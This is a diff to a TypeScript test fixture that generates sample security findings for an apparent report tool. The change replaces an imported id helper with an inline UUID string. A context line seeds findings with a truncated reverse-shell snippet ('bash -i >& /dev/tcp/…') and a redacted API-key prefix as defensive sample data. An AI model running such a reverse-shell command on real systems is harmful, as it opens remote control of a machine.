@@ -1,7 +1,6 @@
 import type { Finding } from '../../src/findings/finding.js';
 import type { ReportContent } from '../../src/report/page.js';
 import { FindingsTally } from '../../src/report/tally.js';
-import { idOf } from '../findings/samples.js';
 
 export const SINCE = new Date('2026-11-13T12:00:00.000Z');
 export const UNTIL = new Date('2026-11-20T12:00:00.000Z');
@@ -36,7 +35,7 @@ export function findingOf(n: number, fields: Partial<Finding> = {}): Finding {
     dest: `${pick(HOSTS, 3)}:443`,
     snippet: inbound ? 'bash -i >& /dev/tcp/‹12›' : 'sk-proj-‹56›',
     timestamp: new Date(UNTIL.getTime() - age).toISOString(),
-    id: idOf(n),
+    id: `00000000-0000-4000-8000-${n.toString(16).padStart(12, '0')}`,
     agent: pick(AGENTS, 11),
     count: 1 + (n % 5 === 0 ? n % 13 : 0),
     location: 'body',
